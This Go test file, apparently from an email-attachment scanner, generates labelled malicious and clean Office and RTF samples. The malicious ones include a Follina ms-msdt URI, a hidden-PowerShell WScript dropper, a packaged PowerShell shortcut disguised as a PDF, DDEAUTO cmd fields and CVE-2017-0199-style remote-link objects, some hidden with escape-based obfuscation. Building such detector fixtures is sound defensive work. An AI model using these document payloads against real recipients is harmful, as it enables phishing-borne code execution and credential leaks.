package corpus

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"mime/quotedprintable"
	"strings"
	"unicode/utf16"

	"github.com/airlockmail/airlock/verdict"
)

// Office and RTF links of every kind (issue family 5): relationships that
// fetch or open remote things, imported (altChunk) parts, RTF templates,
// linked objects and fields written with the escapes droppers use, and
// packaged files whose names or bytes are executable. Remote addresses are
// documentation ones (RFC 5737).

// rtfEscape writes s as \'hh escapes (every character).
func rtfEscape(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, `\'%02x`, s[i])
	}
	return b.String()
}

// rtfUnicode writes s as \uN? escapes, with a junk ignorable group and a
// line break after every few characters.
func rtfUnicode(s string) string {
	var b strings.Builder
	for i, r := range s {
		fmt.Fprintf(&b, `\u%d?`, r)
		if i%5 == 4 {
			b.WriteString("{\\*\\zq" + fmt.Sprint(i) + "}\r\n")
		}
	}
	return b.String()
}

// rtfHexPadded writes bytes as hex with white space and line breaks
// inside, and part of it as \binN raw data.
func rtfHexPadded(b []byte) string {
	var s strings.Builder
	cut := len(b) / 3
	for i, c := range b[:cut] {
		fmt.Fprintf(&s, "%02x", c)
		if i%7 == 6 {
			s.WriteString(" \r\n\t")
		}
	}
	fmt.Fprintf(&s, `\bin%d `, len(b)-2*cut)
	s.Write(b[cut : len(b)-cut])
	for i, c := range b[len(b)-cut:] {
		fmt.Fprintf(&s, "%02x", c)
		if i%5 == 4 {
			s.WriteString("\n")
		}
	}
	return s.String()
}

// ole1Header is an OLE1 object header (MS-OLEDS 2.2.4/2.2.5): linked
// (format id 1, with the link source as the topic) or embedded (2).
func ole1Header(class, topic string, linked bool, native []byte) []byte {
	le := binary.LittleEndian
	lp := func(b []byte, s string) []byte {
		if s == "" {
			return le.AppendUint32(b, 0)
		}
		b = le.AppendUint32(b, uint32(len(s)+1))
		return append(append(b, s...), 0)
	}
	b := le.AppendUint32(nil, 0x00000501)
	if linked {
		b = le.AppendUint32(b, 1)
		b = lp(b, class)
		b = lp(b, topic)
		b = lp(b, "")                // item
		b = lp(b, "")                // network name
		b = le.AppendUint32(b, 0)    // reserved
		return le.AppendUint32(b, 0) // link update: automatic
	}
	b = le.AppendUint32(b, 2)
	b = lp(b, class)
	b = lp(b, "")
	b = lp(b, "")
	b = le.AppendUint32(b, uint32(len(native)))
	return append(b, native...)
}

// Ole10NativeW is an OLE1 Package with the Unicode names newer packagers
// append after the data (label, temp path, original path).
func Ole10NativeW(label, orig string, data []byte, unicode ...string) []byte {
	le := binary.LittleEndian
	var p []byte
	p = append(p, 0x02, 0x00)
	p = append(append(p, label...), 0)
	p = append(append(p, orig...), 0)
	p = append(p, 0x00, 0x00, 0x03, 0x00)
	tmp := `C:\Users\user\AppData\Local\Temp\` + label + "\x00"
	p = le.AppendUint32(p, uint32(len(tmp)))
	p = append(p, tmp...)
	p = le.AppendUint32(p, uint32(len(data)))
	p = append(p, data...)
	for _, u := range unicode {
		w := utf16.Encode([]rune(u))
		p = le.AppendUint32(p, uint32(len(w)))
		for _, c := range w {
			p = le.AppendUint16(p, c)
		}
	}
	return append(le.AppendUint32(nil, uint32(len(p))), p...)
}

// WordDocWithObject is a Word 97 document whose ObjectPool holds one
// embedded object storage with the given Ole10Native stream.
func WordDocWithObject(native []byte) []byte {
	wd := make([]byte, 4096)
	copy(wd, []byte{0xec, 0xa5, 0xc1, 0x00})
	compObj := append([]byte{0x01, 0x00, 0xfe, 0xff, 0x03, 0x0a, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff}, []byte("\x0c\x00\x03\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46")...)
	compObj = append(compObj, []byte("\x0f\x00\x00\x00OLE Package\x00\x00\x00\x00\x00\x08\x00\x00\x00Package\x00")...)
	return CFB(Stream("WordDocument", wd), Stream("1Table", make([]byte, 512)),
		Storage("ObjectPool", Storage("_1712345678", Stream("\x01Ole10Native", native), Stream("\x01CompObj", compObj))))
}

// MHT is a MIME HTML archive with the HTML quoted-printable encoded and
// extra parts.
func MHT(html string, extra ...string) []byte {
	var b bytes.Buffer
	b.WriteString("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"----=_NextPart_01DA\"; type=\"text/html\"\r\n\r\n")
	b.WriteString("This is a multi-part message in MIME format.\r\n\r\n------=_NextPart_01DA\r\nContent-Location: file:///C:/doc.htm\r\nContent-Transfer-Encoding: quoted-printable\r\nContent-Type: text/html; charset=\"utf-8\"\r\n\r\n")
	qp := quotedprintable.NewWriter(&b)
	qp.Write([]byte(html))
	qp.Close()
	b.WriteString("\r\n")
	for _, e := range extra {
		b.WriteString("\r\n------=_NextPart_01DA\r\n" + e + "\r\n")
	}
	b.WriteString("\r\n------=_NextPart_01DA--\r\n")
	return b.Bytes()
}

const relNS = `xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`

// AltChunkDocx is a Word package whose body imports one part.
func AltChunkDocx(partName string, part []byte) []byte {
	return Docx(Para("Please see the attached statement below.")+`<w:altChunk `+relNS+` r:id="rId1"/>`,
		ZipEntry{Name: "word/_rels/document.xml.rels", Data: Rels(Rel{Type: "aFChunk", Target: partName})},
		ZipEntry{Name: "word/" + partName, Data: part})
}

// Pptx writes a one-slide presentation whose slide has the given
// relationships.
func Pptx(slideRels ...Rel) []byte {
	pres := `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n" + `<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" ` + relNS + `><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>`
	slide := `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n" + `<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/></p:spTree></p:cSld></p:sld>`
	ct := `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n" + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/><Override PartName="/ppt/slides/slide1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/></Types>`
	return Zip(
		ZipEntry{Name: "[Content_Types].xml", Data: []byte(ct)},
		ZipEntry{Name: "_rels/.rels", Data: Rels(Rel{Type: "officeDocument", Target: "ppt/presentation.xml"})},
		ZipEntry{Name: "ppt/presentation.xml", Data: []byte(pres)},
		ZipEntry{Name: "ppt/_rels/presentation.xml.rels", Data: Rels(Rel{Type: "slide", Target: "slides/slide1.xml"})},
		ZipEntry{Name: "ppt/slides/slide1.xml", Data: []byte(slide)},
		ZipEntry{Name: "ppt/slides/_rels/slide1.xml.rels", Data: Rels(slideRels...)},
	)
}

const (
	msdtURI  = `ms-msdt:/id PCWDiagnostic /skip force /param "IT_RebrowseForFile=? IT_LaunchMethod=ContextMenu IT_BrowseForFile=$(calc)i/../../../../../../Windows/System32/mpsigstub.exe"`
	davShare = `\\198.51.100.7@80\share`
)

func rtfDoc(body string) []byte {
	return []byte(`{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0\fswiss Arial;}}\f0\fs22 ` + body + `\par}`)
}

func linkSamples() []Sample {
	jsPayload := []byte(`var s = new ActiveXObject("WScript.Shell"); s.Run("powershell -w hidden -c \"` + cradle + `\"", 0);`)
	pkgJS := Ole10NativeW("invoice.pdf", `C:\Users\user\Desktop\invoice.pdf.js`, jsPayload)
	equation := ole1Header("Equation.3", "", false, Noise(300, 51))
	linked := ole1Header("Excel.Sheet.12", davShare+`\q3.xlsx`, true, nil)
	linkedLocal := ole1Header("Excel.Sheet.12", `C:\Reports\figures.xlsx`, true, nil)
	lnk := LNK{Target: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, Args: "-w hidden -c \"" + cradle + "\"", Icon: `C:\Windows\System32\imageres.dll`}.Bytes()
	followHTML := `<!DOCTYPE html><html><head><title>Statement</title></head><body><p>Loading statement…</p><script>window.location.href = "` + strings.ReplaceAll(msdtURI, `"`, `\"`) + `";</script></body></html>`
	return []Sample{
		// RTF.
		{Name: "template-unicode.rtf", Want: verdict.Malicious, Why: `\*\template with a remote address written as \uN escapes and junk groups`,
			Data: rtfDoc(`{\*\template ` + rtfUnicode("http://198.51.100.7/tpl/invoice.dotm") + `}Dear customer,\par please find the invoice.`)},
		{Name: "objautlink-webdav.rtf", Want: verdict.Malicious, Why: `auto-updating linked object whose source is a WebDAV share, class written with \'hh`,
			Data: rtfDoc(`Figures:{\object\objautlink\rsltpict\objw4000\objh2000{\*\objclass ` + rtfEscape("Excel.Sheet.12") + `}{\*\objdata ` + fmt.Sprintf("%x", linked) + `}{\result see figures}}`)},
		{Name: "package-js.rtf", Want: verdict.Malicious, Why: `Package object (label invoice.pdf, path invoice.pdf.js) holding a WScript dropper; objdata padded with white space and \bin`,
			Data: rtfDoc(`Double-click the attachment:{\object\objemb{\*\objclass Package}{\*\objdata ` + rtfHexPadded(ole1Header("Package", "", false, pkgJS[4:])) + `}}`)},
		{Name: "field-msdt.rtf", Want: verdict.Malicious, Why: `HYPERLINK field to ms-msdt: with the scheme written as \'hh escapes`,
			Data: rtfDoc(`{\field{\*\fldinst HYPERLINK "` + rtfEscape("ms-msdt") + strings.ReplaceAll(msdtURI[len("ms-msdt"):], `"`, `\'22`) + `"}{\fldrslt Open the statement}}`)},
		{Name: "includepicture-unc.rtf", Want: verdict.HighlySuspicious, Why: `INCLUDEPICTURE from a network share, backslashes written as \u92`,
			Data: rtfDoc(`{\field{\*\fldinst INCLUDEPICTURE "` + strings.Repeat(`\u92?`, 4) + `203.0.113.9` + `\u92?\u92?` + `share` + `\u92?\u92?` + `logo.png" \\d}{\fldrslt }}Logo above.`)},
		{Name: "equation-escaped.rtf", Want: verdict.Malicious, Why: `Equation.3 object whose class is \'hh-escaped and whose data is padded (no objupdate)`,
			Data: rtfDoc(`x{\object\objemb{\*\objclass ` + rtfEscape("Equation.3") + `}{\*\objdata ` + rtfHexPadded(equation) + `}}`)},

		// OOXML.
		{Name: "hyperlink-msdt.docx", Want: verdict.Malicious, Why: "hyperlink relationship to ms-msdt: (Follina handler)",
			Data: Docx(Para("Open the statement"), ZipEntry{Name: "word/_rels/document.xml.rels", Data: Rels(Rel{Type: "hyperlink", Target: strings.ReplaceAll(msdtURI, `"`, "&quot;"), Mode: "External"})})},
		{Name: "subdocument-unc.docx", Want: verdict.HighlySuspicious, Why: "subDocument relationship to a network share",
			Data: Docx(Para("Part 2 follows"), ZipEntry{Name: "word/_rels/document.xml.rels", Data: Rels(Rel{Type: "subDocument", Target: `\\198.51.100.7\share\part2.docx`, Mode: "External"})})},
		{Name: "altchunk-rtf.docx", Want: verdict.Malicious, Why: "altChunk part that is an RTF with an Equation Editor object",
			Data: AltChunkDocx("afchunk.rtf", rtfDoc(`{\object\objemb\objupdate{\*\objclass Equation.3}{\*\objdata `+fmt.Sprintf("%x", equation)+`}}`))},
		{Name: "altchunk-mht.docx", Want: verdict.Malicious, Why: "altChunk MHT whose quoted-printable HTML navigates to ms-msdt:",
			Data: AltChunkDocx("afchunk.mht", MHT(followHTML))},
		{Name: "altchunk-html-search.docx", Want: verdict.HighlySuspicious, Why: "altChunk HTML linking to search-ms: on a WebDAV share",
			Data: AltChunkDocx("afchunk.htm", []byte(`<html><body><p>Your documents are ready:</p><a href="search-ms:query=invoice&amp;crumb=location:`+davShare+`&amp;displayname=Documents">Open documents</a></body></html>`))},
		{Name: "altchunk-docx.docx", Want: verdict.Malicious, Why: "altChunk part that is a Word package whose hyperlink opens ms-msdt:",
			Data: AltChunkDocx("afchunk.docx", Docx(Para("Statement"), ZipEntry{Name: "word/_rels/document.xml.rels", Data: Rels(Rel{Type: "hyperlink", Target: "ms-msdt:/id PCWDiagnostic /skip force", Mode: "External"})}))},
		{Name: "image-share.pptx", Want: verdict.Suspicious, Why: "slide picture loaded from a network share (NTLM leak on open)",
			Data: Pptx(Rel{Type: "image", Target: "file://198.51.100.7/share/logo.png", Mode: "External"})},
		{Name: "webdav-workbook.xlsx", Want: verdict.HighlySuspicious, Why: "external workbook link to a WebDAV path",
			Data: Xlsx(`<externalReferences><externalReference r:id="rId1" `+relNS+`/></externalReferences>`,
				ZipEntry{Name: "xl/externalLinks/externalLink1.xml", Data: []byte(`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId1" ` + relNS + `/></externalLink>`)},
				ZipEntry{Name: "xl/externalLinks/_rels/externalLink1.xml.rels", Data: Rels(Rel{Type: "externalLinkPath", Target: `\\198.51.100.7@SSL\DavWWWRoot\budget.xlsx`, Mode: "External"})})},
		{Name: "package-lnk.doc", Want: verdict.HighlySuspicious, Why: "Word 97 document packaging a PowerShell shortcut labelled invoice.pdf",
			Data: WordDocWithObject(Ole10NativeW("invoice.pdf", `C:\Users\user\Desktop\invoice.pdf`, lnk))},
		{Name: "package-unicode-name.docx", Want: verdict.HighlySuspicious, Why: "OLE package whose ANSI names say .txt and whose Unicode names say .vbs",
			Data: Docx(Para("Notes attached"), ZipEntry{Name: "word/embeddings/oleObject1.bin", Data: CFB(Stream("\x01Ole10Native",
				Ole10NativeW("notes.txt", `C:\Users\user\Desktop\notes.txt`, []byte("MsgBox \"Meeting at 10\"\r\n"), "notes.txt.vbs", `C:\Users\user\AppData\Local\Temp\notes.txt.vbs`, `C:\Users\user\Desktop\notes.txt.vbs`)))})},

		// Clean look-alikes.
		{Name: "clean-hyperlinks.docx", Want: verdict.Clean, Why: "https, http and mailto hyperlinks, a HYPERLINK field and an internal image",
			Data: Docx(Para("See our site")+Field(` HYPERLINK "https://www.example.org/terms" `), ZipEntry{Name: "word/_rels/document.xml.rels", Data: Rels(
				Rel{Type: "hyperlink", Target: "https://www.example.org/report", Mode: "External"},
				Rel{Type: "hyperlink", Target: "http://www.example.com/", Mode: "External"},
				Rel{Type: "hyperlink", Target: "mailto:sales@example.org", Mode: "External"},
				Rel{Type: "image", Target: "media/image1.png"})}, ZipEntry{Name: "word/media/image1.png", Data: pngImage()})},
		{Name: "clean-altchunk-html.docx", Want: verdict.Clean, Why: "altChunk HTML with a table and an https link",
			Data: AltChunkDocx("afchunk.htm", []byte(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Statement</title></head><body><table><tr><td>Item</td><td>Amount</td></tr><tr><td>Service</td><td>120.00</td></tr></table><p>Questions? <a href="https://www.example.org/help">Help</a></p></body></html>`))},
		{Name: "clean-altchunk-mht.docx", Want: verdict.Clean, Why: "altChunk MHT with plain HTML and a picture part",
			Data: AltChunkDocx("afchunk.mht", MHT(`<html><body><h1>Minutes</h1><p>Attendees: Alice, Bob.</p><img src="image001.png"></body></html>`,
				"Content-Location: file:///C:/image001.png\r\nContent-Transfer-Encoding: base64\r\nContent-Type: image/png\r\n\r\niVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="))},
		{Name: "clean-template-local.rtf", Want: verdict.Clean, Why: `local \*\template and Unicode text written as \uN`,
			Data: rtfDoc(`{\*\template C:\\Users\\anna\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm}` + `\uc1\u1055?\u1088?\u1080?\u1074?\u1077?\u1090? ` + rtfEscape("Grüße") + ` {\field{\*\fldinst HYPERLINK "https://www.example.org/"}{\fldrslt example}}`)},
		{Name: "clean-linked-local.rtf", Want: verdict.Clean, Why: "auto-updating link to a local workbook (a chart pasted as a link)",
			Data: rtfDoc(`Figures:{\object\objautlink\rsltpict{\*\objclass Excel.Sheet.12}{\*\objdata ` + fmt.Sprintf("%x", linkedLocal) + `}{\result figures}}`)},
		{Name: "clean-package-text.doc", Want: verdict.Clean, Why: "Word 97 document packaging a plain text file",
			Data: WordDocWithObject(Ole10NativeW("readme.txt", `C:\Users\user\Desktop\readme.txt`, []byte("Meeting notes: budget approved.\r\n"), "readme.txt", `C:\Users\user\AppData\Local\Temp\readme.txt`, `C:\Users\user\Desktop\readme.txt`))},
		{Name: "clean-workbook-link.xlsx", Want: verdict.Clean, Why: "external workbook link to a local file",
			Data: Xlsx(`<externalReferences><externalReference r:id="rId1" `+relNS+`/></externalReferences>`,
				ZipEntry{Name: "xl/externalLinks/externalLink1.xml", Data: []byte(`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId1" ` + relNS + `/></externalLink>`)},
				ZipEntry{Name: "xl/externalLinks/_rels/externalLink1.xml.rels", Data: Rels(Rel{Type: "externalLinkPath", Target: "file:///C:/Reports/budget.xlsx", Mode: "External"})})},
		{Name: "clean-slides.pptx", Want: verdict.Clean, Why: "presentation with a web picture and an https link",
			Data: Pptx(Rel{Type: "image", Target: "https://www.example.org/logo.png", Mode: "External"}, Rel{Type: "hyperlink", Target: "https://www.example.org/", Mode: "External"})},
	}
}

// OLEStream is the "\x01Ole" stream of a linked object (MS-OLEDS 2.3.3)
// whose absolute source moniker is a URL moniker (url) or a file moniker
// (a path); auto makes it update on open.
func OLEStream(source string, url, auto bool) []byte {
	le := binary.LittleEndian
	var mk []byte
	if url {
		mk = append(mk, 0xe0, 0xc9, 0xea, 0x79, 0xf9, 0xba, 0xce, 0x11, 0x8c, 0x82, 0x00, 0xaa, 0x00, 0x4b, 0xa9, 0x0b)
		u := utf16.Encode([]rune(source + "\x00"))
		mk = le.AppendUint32(mk, uint32(2*len(u)))
		for _, c := range u {
			mk = le.AppendUint16(mk, c)
		}
	} else {
		mk = append(mk, 0x03, 0x03, 0, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46)
		mk = le.AppendUint16(mk, 0) // cAnti
		mk = le.AppendUint32(mk, uint32(len(source)+1))
		mk = append(append(mk, source...), 0)
		mk = le.AppendUint16(mk, 0xffff)
		mk = le.AppendUint16(mk, 0xdead)
		mk = append(mk, make([]byte, 16)...)
		mk = le.AppendUint32(mk, 0)
	}
	update := uint32(3)
	if auto {
		update = 1
	}
	b := le.AppendUint32(nil, 0x02000001)
	b = le.AppendUint32(b, 1) // linked
	b = le.AppendUint32(b, update)
	b = le.AppendUint32(b, 0)
	b = le.AppendUint32(b, 0) // no reserved moniker
	b = le.AppendUint32(b, 0) // no relative moniker
	b = le.AppendUint32(b, uint32(len(mk)))
	b = append(b, mk...)
	b = le.AppendUint32(b, 0xffffffff)
	b = append(b, make([]byte, 16)...)
	b = le.AppendUint32(b, 0) // display name
	b = le.AppendUint32(b, 0)
	return append(b, make([]byte, 24)...)
}

// WordDocWithLink is a Word 97 document whose ObjectPool holds a linked
// object.
func WordDocWithLink(ole []byte) []byte {
	wd := make([]byte, 4096)
	copy(wd, []byte{0xec, 0xa5, 0xc1, 0x00})
	return CFB(Stream("WordDocument", wd), Stream("1Table", make([]byte, 512)),
		Storage("ObjectPool", Storage("_1712345679", Stream("\x01Ole", ole), Stream("\x03ObjInfo", []byte{0x00, 0x00, 0x03, 0x00, 0x01, 0x00}))))
}

func linkSamples2() []Sample {
	return []Sample{
		{Name: "ole-url-link.doc", Want: verdict.Malicious, Why: "linked OLE object with a URL moniker that updates on open (CVE-2017-0199 family)",
			Data: WordDocWithLink(OLEStream("http://198.51.100.7/template.rtf", true, true))},
		{Name: "ole-share-link.xls", Want: verdict.HighlySuspicious, Why: "workbook with an object linked (manual update) to a file on a share",
			Data: CFB(Stream("Workbook", Workbook(false, Sheet{Name: "Sheet1"})), Storage("MBD0001A2B3", Stream("\x01Ole", OLEStream(`\\203.0.113.9\pub\data.xlsx`, false, false))))},
		{Name: "dde-escaped.rtf", Want: verdict.Malicious, Why: `DDEAUTO field starting cmd, keyword and program written as \'hh`,
			Data: rtfDoc(`{\field{\*\fldinst ` + rtfEscape("DDEAUTO") + ` c:\\\\windows\\\\system32\\\\` + rtfEscape("cmd.exe") + ` "/k powershell -w hidden -c calc"}{\fldrslt update}}`)},
		{Name: "ole2-moniker.rtf", Want: verdict.Malicious, Why: "RTF object whose OLE2 storage is a link with a URL moniker (CVE-2017-0199 style), no objupdate",
			Data: rtfDoc(`{\object\objautlink{\*\objclass Word.Document.8}{\*\objdata ` + fmt.Sprintf("%x", ole1Header("Word.Document.8", "", false, CFB(Stream("\x01Ole", OLEStream("http://203.0.113.9/doc.rtf", true, true))))) + `}}`)},
		{Name: "clean-ole-local-link.doc", Want: verdict.Clean, Why: "object linked (manual update) to a local workbook",
			Data: WordDocWithLink(OLEStream(`C:\Reports\figures.xlsx`, false, false))},
	}
}
